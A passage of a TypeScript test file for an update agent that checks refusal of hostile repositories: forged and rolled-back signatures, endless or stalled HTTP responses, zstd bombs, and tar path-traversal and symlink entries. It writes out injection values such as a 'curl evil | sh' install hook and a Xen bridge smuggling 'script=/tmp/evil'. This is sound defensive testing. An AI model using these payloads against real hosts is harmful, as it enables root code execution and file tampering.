// Hostile repositories, driven through the agent: a host runs sbc 1.0.0; the repository it
// upgrades from is served by a small HTTP server that tampers with files or misbehaves at
// the HTTP level. For every attack, first the compiled `loopship-agent upgrade sbc --json`
// (a real process), then the Agent library with a fake boot backend in which 1.0.0 runs:
//  - the exact exit code (CLI; exitCodeFor for the library) and error code, and the error
//    names the file (URL) at fault;
//  - the host directory (config, trust, state, installed images, console logs) is
//    byte-identical, except state.json's `last_update`/`last_error` (the error must name
//    the file there too) and a resumable download in appliances/sbc/.staging, whose every
//    non-zero block must equal the good image (nothing unverified was written);
//  - the installed 1.0.0 images' sha256 are unchanged, no lock is left, the running
//    appliance was neither stopped nor restarted;
//  - then the same host, pointed at `loopship serve` over the good repository, completes
//    the upgrade to 2.0.0 with the image exactly as built.
// With LOOPSHIP_FAST the CLI runs for the first attack of each kind only (a node process per
// attack is most of the file's CPU time); the library runs every attack either way.
// Slow-drip and stalled-connection attacks run in the library only, with short HTTP
// timeouts injected (the real defaults bound them too, but after 60 s or more).
import test, { type ExecutionContext } from 'ava';
import { readFile, mkdir, writeFile } from 'node:fs/promises';
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { execa } from 'execa';
import tar from 'tar-stream';
import { createReadStream } from 'node:fs';
import { RepositoryWriter, compressChunk, zstdCompressBound, packLayout, indexHistoryPath, rootHistoryPath, type Index, type Manifest, type HttpFetcherOptions } from '../../format/index.js';
import {
  buildWorld, hostileServer, context, copyHost, hostConfig, hashTree, diffTrees, SKIP, normalizedState, stagingHoldsOnlyVerifiedBytes,
  runningBackend, agentFor, runCli, fileSha, limiter, repointSbc2, manifestRel, chunkRel, packRel, exitCodeFor, sigPath, signDetached,
  buildRoot, signRoot, Keystore, type World, type PrivateKey, type AttackContext, type Override, type Host,
} from './harness.js';

const worldP = buildWorld();
const gate = limiter(3);

test.after.always(async () => {
  const world = await worldP.catch(() => null);
  if (!world) return;
  // loop devices a failed configure might have left (none expected)
  const out = (await execa('losetup', ['-l', '-n', '-O', 'NAME,BACK-FILE'], { reject: false })).stdout;
  for (const line of out.split('\n')) {
    const [dev, file] = line.trim().split(/\s+/);
    if (file?.startsWith(world.dir)) await execa('losetup', ['-d', dev], { reject: false });
  }
  await world.cleanup();
});

// ---------- HTTP misbehaviour ----------

type Match = (path: string, w: World) => boolean;
const is = (rel: (w: World) => string): Match => (p, w) => p === rel(w);
const INDEX: Match = (p) => p === 'index.json';

/** Streams zeros forever (chunked encoding, no length). */
const endless = (m: Match, w: () => World): Override => (req, res, path) => {
  if (!m(path, w())) return false;
  res.writeHead(200, { 'content-type': 'application/octet-stream' });
  const block = Buffer.alloc(64 * 1024);
  const pump = () => {
    while (!res.destroyed && res.write(block));
    if (!res.destroyed) res.once('drain', pump);
  };
  res.on('close', () => res.removeAllListeners('drain'));
  pump();
  return true;
};

/** Declares more bytes than it sends, then drops the connection. */
const lie = (m: Match, tree: string, w: () => World): Override => async (req, res, path) => {
  if (!m(path, w())) return false;
  const data = await readFile(join(tree, path));
  res.writeHead(200, { 'content-length': data.length + 4096 });
  res.write(data);
  setTimeout(() => res.destroy(), 50);
  return true;
};

/** A byte every 100 ms (the real file, correct length). */
const drip = (m: Match, tree: string, w: () => World): Override => async (req, res, path) => {
  if (!m(path, w())) return false;
  const data = await readFile(join(tree, path));
  res.writeHead(200, { 'content-length': data.length });
  let i = 0;
  const timer = setInterval(() => {
    if (res.destroyed || i >= data.length) return clearInterval(timer);
    res.write(data.subarray(i, ++i));
  }, 100);
  res.on('close', () => clearInterval(timer));
  return true;
};

/** Headers, then silence. */
const stall = (m: Match, w: () => World): Override => (req, res, path) => {
  if (!m(path, w())) return false;
  res.writeHead(200, { 'content-length': 100_000 });
  res.flushHeaders();
  return true;
};

const answer = (m: Match, status: number, body: string, w: () => World, headers: Record<string, string> = {}): Override => (req, res, path) => {
  if (!m(path, w())) return false;
  res.writeHead(status, { 'content-type': 'text/html', 'content-length': Buffer.byteLength(body), ...headers }).end(body);
  return true;
};

const HTML = '<!DOCTYPE html><html><head><title>502 Bad Gateway</title></head><body><h1>Bad Gateway</h1></body></html>\n';

/** Short HTTP timeouts for the in-process agent: drips and stalls are cut in seconds, not minutes. */
const SHORT: HttpFetcherOptions = { idleTimeoutMs: 3000, baseTimeoutMs: 4000, minBytesPerSecond: 64 * 1024 * 1024 };

// ---------- the attacks ----------

interface Attack {
  name: string;
  prepare?(ctx: AttackContext): Promise<void>;
  http?(ctx: AttackContext): Override;
  /** mirrors the host is configured with (default: only the hostile server) */
  repos?(hostile: string, w: World): string[];
  exit: number;
  code: string;
  /** the file the error must name */
  where(w: World): RegExp;
  message?: RegExp;
  /** library only, with short HTTP timeouts (see above) */
  fetcher?: HttpFetcherOptions;
  /** the library agent's clock */
  now?: () => Date;
  /** the failure comes after the index verified (state.json may record last_update/last_error) */
  late?: boolean;
  /** minutes, not seconds: skipped with LOOPSHIP_FAST */
  slow?: boolean;
  /** offline import of this (hostile) package tar instead of an upgrade from the repository */
  importTar?(ctx: AttackContext): Promise<string>;
}

const esc = (s: string) => s.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
const url = (rel: (w: World) => string) => (w: World) => new RegExp(`127\\.0\\.0\\.1:\\d+/${esc(rel(w))}`);
const INDEX_URL = url(() => 'index.json');
const MANIFEST_URL = url(manifestRel);
const CHUNK_URL = url(chunkRel);
const manifestLabel = () => /manifest sbc 2\.0\.0|manifests\//;

/** Flip one byte of a file, keeping its length. */
async function flip(ctx: AttackContext, rel: string, at: (len: number) => number = (n) => Math.floor(n / 2)) {
  const b = await ctx.read(rel);
  b[at(b.length)] ^= 0x01;
  await ctx.write(rel, b);
}

const sbc2 = (w: World): Manifest => structuredClone(w.sbc2);
/** A manifest for sbc 2.0.0 altered by `f`, signed by the real publisher key; the index (validly signed) names it. */
const craftedManifest = (f: (m: Manifest & Record<string, unknown>) => void) => async (ctx: AttackContext) => {
  const m = sbc2(ctx.world) as Manifest & Record<string, unknown>;
  f(m);
  await repointSbc2(ctx, await ctx.addManifest(m));
};
/** The good index altered by `f`, validly signed, same version. */
const craftedIndex = (f: (i: Index & Record<string, unknown>) => void) => async (ctx: AttackContext) => {
  const i = (await ctx.index()) as Index & Record<string, unknown>;
  f(i);
  await ctx.writeIndex(i);
};
/** A changed index (sbc 2.0.0 pointed at the other image's manifest, the version pushed far up) signed by `keys`. */
const signedBy = (keys: (w: World) => PrivateKey[]) => async (ctx: AttackContext) => {
  const i = await ctx.index();
  i.images.sbc.versions['2.0.0'] = i.images.other.versions['1.0.0'];
  i.version += 1000;
  await ctx.writeIndex(i, keys(ctx.world));
};
/** Chunk attacks go at the per-chunk files: no pack to take the bytes from instead. */
const noPack = async (ctx: AttackContext) => ctx.remove('packs');
const chunkAttack = (f: (ctx: AttackContext, rel: string, len: number) => Promise<void>) => async (ctx: AttackContext) => {
  await noPack(ctx);
  await f(ctx, chunkRel(ctx.world), ctx.world.newChunks[0].length);
};

function packEntry(x: World) {
  return packLayout(x.sbc2).entries.find((e) => e.chunk.sha256 === x.newChunks[0].sha256)!;
}

type TarEntry = { name: string; data?: Buffer; type?: tar.Headers['type']; linkname?: string };

/** sbc 2.0.0's package tar, its entries changed by `f`, written beside the tree. */
async function hostileTar(ctx: AttackContext, f: (e: TarEntry[]) => void | Promise<void>): Promise<string> {
  const entries: TarEntry[] = [];
  const ex = tar.extract();
  createReadStream(ctx.world.sbc2Tar).pipe(ex);
  for await (const e of ex) {
    const parts: Buffer[] = [];
    for await (const p of e) parts.push(p as Buffer);
    entries.push({ name: e.header.name, data: Buffer.concat(parts) });
  }
  await f(entries);
  const pack = tar.pack();
  const out: Buffer[] = [];
  pack.on('data', (d: Buffer) => out.push(d));
  const done = new Promise((r) => pack.on('end', r));
  for (const e of entries) {
    if (e.type && e.type !== 'file') pack.entry({ name: e.name, type: e.type, linkname: e.linkname, size: 0 });
    else pack.entry({ name: e.name, size: e.data!.length }, e.data!);
  }
  pack.finalize();
  await done;
  const file = join(ctx.tree, '..', `${ctx.tree.split('/').pop()}-hostile.tar`);
  await writeFile(file, Buffer.concat(out));
  return file;
}

let W: World;
const w = () => W;

const attacks: Attack[] = [
  // ----- index.json -----
  { name: 'index: one byte changed', prepare: (c) => flip(c, 'index.json', (n) => n - 40), exit: 3, code: 'UNKNOWN_KEY', where: INDEX_URL, message: /no valid signature by any index key/ },
  { name: 'index: truncated', prepare: async (c) => c.write('index.json', (await c.read('index.json')).subarray(0, 200)), exit: 3, code: 'UNKNOWN_KEY', where: INDEX_URL },
  { name: 'index: oversized (16 MiB + 1, declared)', prepare: async (c) => c.write('index.json', Buffer.concat([await c.read('index.json'), Buffer.alloc(16 * 1024 * 1024 + 1, 0x20)])), exit: 4, code: 'TOO_LARGE', where: INDEX_URL, message: /Content-Length \d+ exceeds the 16777216-byte limit/ },
  { name: 'index: endless data', http: () => endless(INDEX, w), exit: 4, code: 'TOO_LARGE', where: INDEX_URL, message: /more than 16777216 bytes/ },
  { name: 'index: Content-Length lie (connection dropped short)', http: (c) => lie(INDEX, c.tree, w), exit: 4, code: 'FETCH_FAILED', where: INDEX_URL },
  { name: 'index: slow drip (a byte per 100 ms)', http: (c) => drip(INDEX, c.tree, w), fetcher: SHORT, exit: 4, code: 'FETCH_FAILED', where: INDEX_URL, message: /took longer than/ },
  { name: 'index: stalled after the headers', http: () => stall(INDEX, w), fetcher: SHORT, exit: 4, code: 'FETCH_FAILED', where: INDEX_URL, message: /no data for 3 s/ },
  // (a genuine index merely re-signed by another key verifies through index/<N>.json.asc: harmless. These change it.)
  { name: 'index: signed by an unknown key', prepare: signedBy((x) => [x.stranger]), exit: 3, code: 'UNKNOWN_KEY', where: INDEX_URL, message: /no valid signature by any index key/ },
  { name: 'index: signed by the publisher key (wrong role)', prepare: signedBy((x) => x.publisherKeys), exit: 3, code: 'UNKNOWN_KEY', where: INDEX_URL },
  { name: 'index: below threshold (1 of 2 index keys)', prepare: signedBy((x) => x.indexKeys.slice(0, 1)), exit: 3, code: 'SIGNATURE_THRESHOLD', where: INDEX_URL },
  { name: 'index: expired (freeze: re-served after its expiry)', prepare: craftedIndex((i) => { i.expires = '2026-01-01T00:00:00Z'; }), exit: 3, code: 'EXPIRED', where: INDEX_URL, message: /index expired at 2026-01-01/ },
  {
    name: 'index: frozen mirror, host clock past expiry', now: () => new Date(Date.now() + 40 * 86_400_000),
    // the CLI runs on the real clock; only the library agent is 40 days ahead
    exit: 3, code: 'EXPIRED', where: INDEX_URL, message: /index expired at/,
  },
  { name: 'index: rollback to the previous version', prepare: async (c) => c.writeIndex(await c.read(indexHistoryPath(c.world.indexVersion - 1)), c.world.indexKeys), exit: 3, code: 'ROLLBACK', where: INDEX_URL, message: /older than version/ },
  {
    name: 'index: replay of an old genuine index (bytes and signature)',
    prepare: async (c) => {
      await c.write('index.json', await c.read(indexHistoryPath(3)));
      await c.write('index.json.asc', await c.read(sigPath(indexHistoryPath(3))));
    },
    exit: 3, code: 'ROLLBACK', where: INDEX_URL, message: /index version 3 is older than version/,
  },
  {
    // the team's second repository, made from the same key store, genuine and newer: its files are not this repository's
    name: 'index: another repository made from the same keys (swapped in)',
    prepare: async (c) => {
      const other = join(c.tree, '..', `${c.tree.split('/').pop()}-other-repo`);
      const writer = await RepositoryWriter.init(other, await signRoot(await buildRoot(c.world.keystore, 1), c.world.rootKeys), { indexKeys: c.world.indexKeys });
      for (let i = 0; i < c.world.indexVersion + 2; i++) await writer.resign();
      for (const f of ['root.json', 'root.json.asc', 'index.json', 'index.json.asc', rootHistoryPath(1), sigPath(rootHistoryPath(1))]) await c.write(f, await readFile(join(other, f)));
    },
    exit: 3, code: 'WRONG_REPOSITORY', where: INDEX_URL, message: /belongs to repository [0-9a-f]{32}, not to the trusted repository [0-9a-f]{32}/,
  },
  { name: 'index: signed under a root version the host does not have', prepare: craftedIndex((i) => { i.root_version = 5; }), exit: 3, code: 'ROOT_CHAIN', where: INDEX_URL },
  { name: 'index: malformed JSON (validly signed)', prepare: async (c) => c.writeIndex(Buffer.from('{"type": "loopship/index", "version": ')), exit: 3, code: 'METADATA_INVALID', where: INDEX_URL },
  { name: 'index: wrong types (validly signed)', prepare: craftedIndex((i) => { (i as Record<string, unknown>).root_version = '1'; }), exit: 3, code: 'METADATA_INVALID', where: INDEX_URL, message: /root_version/ },
  { name: 'index: unknown field (validly signed)', prepare: craftedIndex((i) => { i.mirror_hint = 'http://evil.invalid/'; }), exit: 3, code: 'METADATA_INVALID', where: INDEX_URL, message: /mirror_hint/ },
  {
    name: 'index: huge counts (10,001 images, validly signed)',
    prepare: craftedIndex((i) => { for (let n = 0; n < 10_001; n++) i.images[`x${n}`] = { versions: {}, channels: {} }; }),
    exit: 3, code: 'METADATA_INVALID', where: INDEX_URL, message: /too many images/,
  },
  { name: 'index: manifest path traversal (validly signed)', prepare: craftedIndex((i) => { i.images.sbc.versions['2.0.0'].manifest = '../../../../etc/shadow'; }), exit: 3, code: 'METADATA_INVALID', where: INDEX_URL },
  { name: 'index: channel naming a version that is not listed', prepare: craftedIndex((i) => { i.images.sbc.channels.stable = '9.9.9'; }), exit: 3, code: 'METADATA_INVALID', where: INDEX_URL },
  { name: 'index: signature missing (404)', prepare: (c) => c.remove('index.json.asc'), exit: 4, code: 'NOT_FOUND', where: url(() => 'index.json.asc') },
  { name: 'index: signature is garbage', prepare: (c) => c.write('index.json.asc', 'hello\n'), exit: 3, code: 'SIGNATURE_INVALID', where: INDEX_URL },
  { name: 'index: signature oversized', prepare: (c) => c.write('index.json.asc', Buffer.alloc(65 * 1024, 0x41)), exit: 4, code: 'TOO_LARGE', where: url(() => 'index.json.asc') },
  { name: 'index: HTML error page with 200', http: () => answer(INDEX, 200, HTML, w), exit: 3, code: 'UNKNOWN_KEY', where: INDEX_URL },
  { name: 'index: 503 page', http: () => answer(INDEX, 503, HTML, w), exit: 4, code: 'FETCH_FAILED', where: INDEX_URL, message: /HTTP 503/ },
  { name: 'index: redirect to another host', http: () => answer(INDEX, 302, '', w, { location: `${W.goodServer.url}/index.json` }), exit: 4, code: 'FETCH_FAILED', where: INDEX_URL, message: /redirect to .* refused/ },

  // ----- the root chain -----
  {
    name: 'root: forged rotation (new keys only)',
    prepare: async (c) => {
      const evil = await Keystore.init(join(c.tree, '..', `evil-keys-${Math.random()}`), { rootKeys: 1 });
      const r = await signRoot(await buildRoot(evil, 2, { repository: c.world.repository }), await evil.signingKeys('root'));
      await c.write(rootHistoryPath(2), r.bytes);
      await c.write(sigPath(rootHistoryPath(2)), r.signature);
    },
    exit: 3, code: 'UNKNOWN_KEY', where: url(() => 'root/2.json'),
  },
  {
    name: 'root: rotation below threshold (1 of 2 root keys)',
    prepare: async (c) => {
      const r = await signRoot(await buildRoot(c.world.keystore, 2, { repository: c.world.repository }), c.world.rootKeys.slice(0, 1));
      await c.write(rootHistoryPath(2), r.bytes);
      await c.write(sigPath(rootHistoryPath(2)), r.signature);
    },
    exit: 3, code: 'SIGNATURE_THRESHOLD', where: url(() => 'root/2.json'),
  },
  {
    name: 'root: missing link (root.json is v3, root/2.json absent)',
    prepare: async (c) => {
      const r = await signRoot(await buildRoot(c.world.keystore, 3, { repository: c.world.repository }), c.world.rootKeys);
      await c.write(rootHistoryPath(3), r.bytes);
      await c.write(sigPath(rootHistoryPath(3)), r.signature);
      await c.write('root.json', r.bytes);
      await c.write('root.json.asc', r.signature);
    },
    exit: 3, code: 'ROOT_CHAIN', where: url(() => 'root/2.json'), message: /root\/2\.json is missing/,
  },
  {
    name: 'root: link holding another version',
    prepare: async (c) => {
      const r = await signRoot(await buildRoot(c.world.keystore, 3, { repository: c.world.repository }), c.world.rootKeys);
      await c.write(rootHistoryPath(2), r.bytes);
      await c.write(sigPath(rootHistoryPath(2)), r.signature);
    },
    exit: 3, code: 'ROOT_CHAIN', where: url(() => 'root/2.json'), message: /holds root version 3, expected 2/,
  },
  { name: 'root: expired, no newer root (host clock past its expiry)', now: () => new Date(Date.now() + 400 * 86_400_000), exit: 3, code: 'EXPIRED', where: url(() => 'root.json'), message: /root expired at/ },
  { name: 'root: oversized link', prepare: (c) => c.write(rootHistoryPath(2), Buffer.alloc(600 * 1024, 0x20)), exit: 4, code: 'TOO_LARGE', where: url(() => 'root/2.json') },
  { name: 'root: malformed link', prepare: (c) => c.write(rootHistoryPath(2), '{"type":"loopship/root",'), exit: 3, code: 'METADATA_INVALID', where: url(() => 'root/2.json') },
  { name: 'root: endless link', http: () => endless((p) => p === 'root/2.json', w), exit: 4, code: 'TOO_LARGE', where: url(() => 'root/2.json') },

  // ----- the manifest -----
  { name: 'manifest: one byte changed', prepare: (c) => flip(c, manifestRel(c.world)), exit: 3, code: 'DIGEST_MISMATCH', where: MANIFEST_URL, late: true },
  { name: 'manifest: truncated', prepare: async (c) => c.write(manifestRel(c.world), (await c.read(manifestRel(c.world))).subarray(0, 500)), exit: 3, code: 'SIZE_MISMATCH', where: MANIFEST_URL, late: true },
  { name: 'manifest: oversized', prepare: async (c) => c.write(manifestRel(c.world), Buffer.concat([await c.read(manifestRel(c.world)), Buffer.alloc(1000, 0x20)])), exit: 4, code: 'TOO_LARGE', where: MANIFEST_URL, late: true },
  { name: 'manifest: endless data', http: () => endless(is(manifestRel), w), exit: 4, code: 'TOO_LARGE', where: MANIFEST_URL, late: true },
  { name: 'manifest: missing (404)', prepare: (c) => c.remove(manifestRel(c.world)), exit: 4, code: 'NOT_FOUND', where: MANIFEST_URL, late: true },
  { name: 'manifest: signed by an unknown key', prepare: async (c) => c.write(sigPath(manifestRel(c.world)), await signDetached(await c.read(manifestRel(c.world)), [c.world.stranger])), exit: 3, code: 'UNKNOWN_KEY', where: MANIFEST_URL, late: true },
  { name: 'manifest: signed by the index keys (wrong role)', prepare: async (c) => c.write(sigPath(manifestRel(c.world)), await signDetached(await c.read(manifestRel(c.world)), c.world.indexKeys)), exit: 3, code: 'UNKNOWN_KEY', where: MANIFEST_URL, late: true },
  { name: 'manifest: mix-and-match, another image\'s manifest', prepare: async (c) => repointSbc2(c, (await c.index()).images.other.versions['1.0.0']), exit: 3, code: 'MIX_AND_MATCH', where: url((x) => `manifests/${x.manifests.other}.json`), message: /manifest is for other 1\.0\.0/, late: true },
  { name: 'manifest: mix-and-match, the older version\'s manifest', prepare: async (c) => repointSbc2(c, (await c.index()).images.sbc.versions['1.0.0']), exit: 3, code: 'MIX_AND_MATCH', where: url((x) => `manifests/${x.manifests.sbc1}.json`), message: /manifest is for sbc 1\.0\.0/, late: true },
  { name: 'manifest: overlapping chunks', prepare: craftedManifest((m) => { m.image.chunks[1].offset = m.image.chunks[0].offset; }), exit: 3, code: 'METADATA_INVALID', where: () => /manifests\/[0-9a-f]{64}\.json/, late: true },
  { name: 'manifest: chunk past the end of the image', prepare: craftedManifest((m) => { m.image.chunks.at(-1)!.offset = m.image.size; }), exit: 3, code: 'METADATA_INVALID', where: () => /manifests\/[0-9a-f]{64}\.json/, late: true },
  { name: 'manifest: chunk longer than 8 MiB', prepare: craftedManifest((m) => { m.image.chunks[0].length = 16 * 1024 * 1024; }), exit: 3, code: 'METADATA_INVALID', where: () => /manifests\/[0-9a-f]{64}\.json/, late: true },
  { name: 'manifest: huge counts (50,001 packages)', prepare: craftedManifest((m) => { m.build.packages = Array.from({ length: 50_001 }, (_, i) => ({ name: `p${i}`, version: '1' })); }), exit: 3, code: 'METADATA_INVALID', where: () => /manifests\/[0-9a-f]{64}\.json/, late: true },
  // a publisher key may ship a bad guest, never a dom0 program: fields that reach xl are held to what they can mean there
  { name: 'manifest: bridge with xl vif options (script= would run as root in dom0)', prepare: craftedManifest((m) => { m.xen.network.bridge = 'xenbr0,script=/tmp/evil,backend=0'; }), exit: 3, code: 'METADATA_INVALID', where: () => /manifests\/[0-9a-f]{64}\.json/, message: /xen\.network\.bridge: expected a network interface name/, late: true },
  { name: 'manifest: bridge with a quote and a space', prepare: craftedManifest((m) => { m.xen.network.bridge = 'br0" extra="x'; }), exit: 3, code: 'METADATA_INVALID', where: () => /manifests\/[0-9a-f]{64}\.json/, message: /xen\.network\.bridge/, late: true },
  // refused when the manifest is verified: before anything running is stopped (it used to fail at boot, after the stop)
  { name: 'manifest: line break in the kernel command line', prepare: craftedManifest((m) => { m.boot.cmdline += '\non_crash = "preserve"'; }), exit: 3, code: 'METADATA_INVALID', where: () => /manifests\/[0-9a-f]{64}\.json/, message: /boot\.cmdline: expected one line/, late: true },
  { name: 'manifest: NUL in the ready marker', prepare: craftedManifest((m) => { m.boot.ready_marker = 'READY\u0000'; }), exit: 3, code: 'METADATA_INVALID', where: () => /manifests\/[0-9a-f]{64}\.json/, message: /boot\.ready_marker/, late: true },
  { name: 'manifest: unknown field', prepare: craftedManifest((m) => { m.postinst = 'curl evil | sh'; }), exit: 3, code: 'METADATA_INVALID', where: () => /manifests\/[0-9a-f]{64}\.json/, message: /postinst/, late: true },

  // ----- chunks -----
  { name: 'chunk: other bytes (valid zstd, wrong sha256)', prepare: chunkAttack((c, rel, len) => c.write(rel, compressChunk(Buffer.alloc(len, 7)))), exit: 3, code: 'DIGEST_MISMATCH', where: CHUNK_URL, late: true },
  { name: 'chunk: truncated frame', prepare: chunkAttack(async (c, rel) => c.write(rel, (await c.read(rel)).subarray(0, 12))), exit: 3, code: 'CHUNK_INVALID', where: CHUNK_URL, late: true },
  { name: 'chunk: not zstd at all', prepare: chunkAttack((c, rel) => c.write(rel, Buffer.from(HTML))), exit: 3, code: 'CHUNK_INVALID', where: CHUNK_URL, late: true },
  { name: 'chunk: zstd bomb (frame declares 64 MiB)', prepare: chunkAttack((c, rel) => c.write(rel, compressChunk(Buffer.alloc(64 * 1024 * 1024)))), exit: 3, code: 'CHUNK_INVALID', where: CHUNK_URL, message: /declares 67108864 bytes/, late: true },
  {
    name: 'chunk: zstd bomb (streamed frame, no declared size)',
    prepare: chunkAttack(async (c, rel) => c.write(rel, Buffer.from((await execa('sh', ['-c', 'head -c 64M /dev/zero | zstd -q -c'], { encoding: 'buffer' })).stdout))),
    exit: 3, code: 'CHUNK_INVALID', where: CHUNK_URL, late: true,
  },
  { name: 'chunk: oversized (past zstd\'s bound for its length)', prepare: chunkAttack((c, rel, len) => c.write(rel, Buffer.alloc(zstdCompressBound(len) + 1, 1))), exit: 4, code: 'TOO_LARGE', where: CHUNK_URL, late: true },
  { name: 'chunk: endless data', prepare: noPack, http: () => endless(is(chunkRel), w), exit: 4, code: 'TOO_LARGE', where: CHUNK_URL, late: true },
  { name: 'chunk: Content-Length lie (connection dropped short)', prepare: noPack, http: (c) => lie(is(chunkRel), c.tree, w), exit: 4, code: 'FETCH_FAILED', where: CHUNK_URL, late: true },
  { name: 'chunk: slow drip', prepare: noPack, http: (c) => drip(is(chunkRel), c.tree, w), fetcher: SHORT, exit: 4, code: 'FETCH_FAILED', where: CHUNK_URL, message: /took longer than/, late: true },
  // the production timeouts: the chunk's deadline is 60 s + its bound at 32 KiB/s
  { name: 'chunk: slow drip, default timeouts', slow: true, prepare: noPack, http: (c) => drip(is(chunkRel), c.tree, w), exit: 4, code: 'FETCH_FAILED', where: CHUNK_URL, message: /took longer than 6\d s/, late: true },
  { name: 'chunk: missing (404)', prepare: chunkAttack((c, rel) => c.remove(rel)), exit: 4, code: 'NOT_FOUND', where: CHUNK_URL, late: true },
  { name: 'chunk: HTML page with 200', prepare: noPack, http: () => answer(is(chunkRel), 200, HTML, w), exit: 3, code: 'CHUNK_INVALID', where: CHUNK_URL, late: true },
  { name: 'chunk: redirect to another host', prepare: noPack, http: () => answer(is(chunkRel), 301, '', w, { location: `${W.goodServer.url}/${chunkRel(W)}` }), exit: 4, code: 'FETCH_FAILED', where: CHUNK_URL, message: /redirect/, late: true },

  // ----- packs (the per-chunk files are tampered too: nothing good to fall back on) -----
  {
    name: 'pack and chunk file both tampered',
    prepare: async (c) => {
      await flip(c, packRel(c.world), () => packEntry(c.world).offset + Math.floor(packEntry(c.world).chunk.csize / 2));
      await c.write(chunkRel(c.world), compressChunk(Buffer.alloc(c.world.newChunks[0].length, 7)));
    },
    exit: 3, code: 'DIGEST_MISMATCH', where: CHUNK_URL, late: true,
  },

  // ----- offline packages through `loopship-agent import` -----
  { name: 'import: a chunk in the tar tampered', importTar: (c) => hostileTar(c, (e) => { const x = e.find((y) => y.name === chunkRel(c.world))!; x.data = compressChunk(Buffer.alloc(c.world.newChunks[0].length, 7)); }), exit: 3, code: 'DIGEST_MISMATCH', where: () => /hostile\.tar/ },
  { name: 'import: path traversal entry', importTar: (c) => hostileTar(c, (e) => { e.push({ name: '../../../../tmp/loopship-evil', data: Buffer.from('x') }); }), exit: 3, code: 'PACKAGE_INVALID', where: () => /hostile\.tar/ },
  { name: 'import: absolute path entry', importTar: (c) => hostileTar(c, (e) => { e.splice(2, 0, { name: '/etc/cron.d/evil', data: Buffer.from('x') }); }), exit: 3, code: 'PACKAGE_INVALID', where: () => /hostile\.tar/ },
  { name: 'import: symlink entry', importTar: (c) => hostileTar(c, (e) => { e.splice(2, 0, { name: 'chunks/ab/link', type: 'symlink', linkname: '/etc/shadow' }); }), exit: 3, code: 'PACKAGE_INVALID', where: () => /hostile\.tar/ },
  { name: 'import: hard link entry', importTar: (c) => hostileTar(c, (e) => { e.splice(2, 0, { name: 'chunks/ab/hard', type: 'link', linkname: 'manifest.json' }); }), exit: 3, code: 'PACKAGE_INVALID', where: () => /hostile\.tar/ },
  { name: 'import: device file entry', importTar: (c) => hostileTar(c, (e) => { e.splice(2, 0, { name: 'chunks/ab/sda', type: 'block-device' }); }), exit: 3, code: 'PACKAGE_INVALID', where: () => /hostile\.tar/ },
  { name: 'import: manifest signed by an unknown key', importTar: (c) => hostileTar(c, async (e) => { e[1].data = Buffer.from(await signDetached(e[0].data!, [c.world.stranger])); }), exit: 3, code: 'UNKNOWN_KEY', where: () => /hostile\.tar/ },

  // one trust decision for every path: an offline package is held to the root's expiry like an update
  { name: 'import: the trusted root has expired (host clock past it)', importTar: async (c) => c.world.sbc2Tar, now: () => new Date(Date.now() + 400 * 86_400_000), exit: 3, code: 'EXPIRED', where: () => /state\/trust\/root\.json/, message: /root expired at/ },

  // ----- mirrors -----
  {
    name: 'mirrors: first down, second serving a stale (rolled back) index',
    prepare: async (c) => {
      await c.write('index.json', await c.read(indexHistoryPath(c.world.indexVersion - 2)));
      await c.write('index.json.asc', await c.read(sigPath(indexHistoryPath(c.world.indexVersion - 2))));
    },
    repos: (hostile) => ['http://127.0.0.1:9', hostile],
    exit: 3, code: 'ROLLBACK', where: () => /every mirror failed: .*127\.0\.0\.1:9\/.*; .*index\.json: index version \d+ is older than/,
  },
];

function check(t: ExecutionContext, a: Attack, err: { code?: string; message?: string } | null | undefined, exit: number, label: string) {
  t.is(exit, a.exit, `${label}: exit code (${err?.message})`);
  t.is(err?.code, a.code, `${label}: error code (${err?.message})`);
  t.regex(err?.message ?? '', a.where(W), `${label}: the error names the file`);
  if (a.message) t.regex(err?.message ?? '', a.message, `${label}: the reason`);
}

async function unchanged(t: ExecutionContext, a: Attack, host: Host, before: Awaited<ReturnType<typeof hashTree>>, stateBefore: string, label: string) {
  const after = await hashTree(host.dir, SKIP);
  t.deepEqual(diffTrees(before.files, after.files), [], `${label}: the host is byte-identical`);
  const stateAfter = await readFile(join(host.stateDir, 'state.json'), 'utf8');
  if (a.late) {
    t.deepEqual(normalizedState(stateAfter), normalizedState(stateBefore), `${label}: state.json differs only in last_update/last_error`);
    const lastError = JSON.parse(stateAfter).appliances.sbc.last_error as string | null;
    t.regex(lastError ?? '', a.where(W), `${label}: last_error names the file`);
  } else {
    t.is(stateAfter, stateBefore, `${label}: state.json byte-identical (failed before anything was trusted)`);
  }
  const staging = join(host.stateDir, 'appliances', 'sbc', '.staging', '2.0.0', 'verified.img');
  if (existsSync(staging)) {
    const s = await stagingHoldsOnlyVerifiedBytes(staging, W.sbc2ImagePath);
    t.deepEqual(s.bad, [], `${label}: staging holds only verified blocks`);
    t.log(`${label}: staging kept ${s.blocks} verified block(s) for resuming`);
  }
  t.false(existsSync(join(host.stateDir, 'lock')), `${label}: no lock left`);
}

const kindOf = (a: Attack) => a.name.split(':')[0];
const firstOfKind = new Set([...new Set(attacks.map(kindOf))].map((k) => attacks.find((a) => kindOf(a) === k && !a.fetcher && !a.now)?.name));

let seq = 0;
/** A copy of the good repository changed by the attack, its server, and a copy of the template host configured for it. */
async function scene(t: ExecutionContext, a: Pick<Attack, 'prepare' | 'http' | 'repos'>) {
  const slug = `s${++seq}`;
  const tree = join(W.dir, 'trees', slug);
  await mkdir(join(W.dir, 'trees'), { recursive: true });
  await execa('cp', ['-a', W.repoDir, tree]);
  const ctx = context(W, tree);
  await a.prepare?.(ctx);
  const server = await hostileServer(tree, a.http?.(ctx));
  t.teardown(server.close);
  const host = await copyHost(W, slug);
  await hostConfig(host.dir, a.repos ? a.repos(server.url, W) : [server.url]);
  return { ctx, server, host };
}

for (const a of attacks) {
  (a.slow && process.env.LOOPSHIP_FAST ? test.skip : test)(a.name, async (t) => {
    W = await worldP;
    await (a.slow ? <T>(f: () => Promise<T>) => f() : gate)(async () => {
      const { ctx, host } = await scene(t, a);
      const v1 = join(host.stateDir, 'appliances', 'sbc', '1.0.0');
      const images = { disk: await fileSha(join(v1, 'disk.img')), verified: await fileSha(join(v1, 'verified.img')) };
      const before = await hashTree(host.dir, SKIP);
      const stateBefore = await readFile(join(host.stateDir, 'state.json'), 'utf8');

      const tarFile = await a.importTar?.(ctx);
      // 1. the real command line (with LOOPSHIP_FAST: the first attack of each kind only)
      if (!a.fetcher && !a.now && (!process.env.LOOPSHIP_FAST || firstOfKind.has(a.name))) {
